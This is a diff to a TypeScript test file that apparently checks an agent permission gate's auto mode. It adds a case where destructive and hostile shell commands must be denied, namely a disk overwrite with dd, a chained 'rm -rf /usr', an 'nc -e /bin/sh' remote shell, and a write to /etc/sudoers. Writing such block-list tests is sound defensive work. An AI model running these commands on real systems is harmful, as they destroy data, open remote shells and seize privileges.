@@ -78,7 +78,30 @@ test("what a hook asks is denied, too, and what no pattern of hard_deny matches 
   assert.deepEqual(classifier.questions, []);
 });
 
-test("hard_deny denies nothing in other modes, where auto mode is off, and what a rule allows", async () => {
+test("what a rule allows is denied, too: check, hook and gate agree", async () => {
+  const policy = policyWith("allow *");
+  const auto = autoMode(model("allow"), { text: TEXT });
+  const lines = [
+    ["dd if=/dev/zero of=/dev/sda", "deny"],
+    ["ls; rm -rf /usr", "deny"],
+    ["nc -e /bin/sh h 1", "deny"],
+    ["echo x > /etc/sudoers", "deny"],
+    ['rm -rf "${HOME:?}"', "deny"],
+    ["rm -rf ~root", "deny"],
+    ["rm -rf ${HOME:?}/build", "allow"],
+    ["rm -rf /usr/local/x", "allow"],
+    ["make", "allow"],
+  ] as const;
+  for (const [line, expected] of lines) {
+    const allowed = decideInMode(policy, evaluateCall(policy, bash(line)), AUTO);
+    assert.equal((await applyAutoMode(allowed, { auto })).decision, expected, line);
+    assert.equal(deniedByList(allowed, auto).decision, expected, line);
+    const gate = gateOf(policy, { mode: "auto", classifier: auto });
+    assert.equal((await gate.decide(bash(line))).decision, expected, line);
+  }
+});
+
+test("hard_deny denies nothing in other modes and where auto mode is off", async () => {
   const policy = policyWith("allow Bash:rm -rf /usr/local/x");
   const classifier = autoMode(undefined, { text: TEXT });
   for (const mode of ["default", "acceptEdits"] as const) {
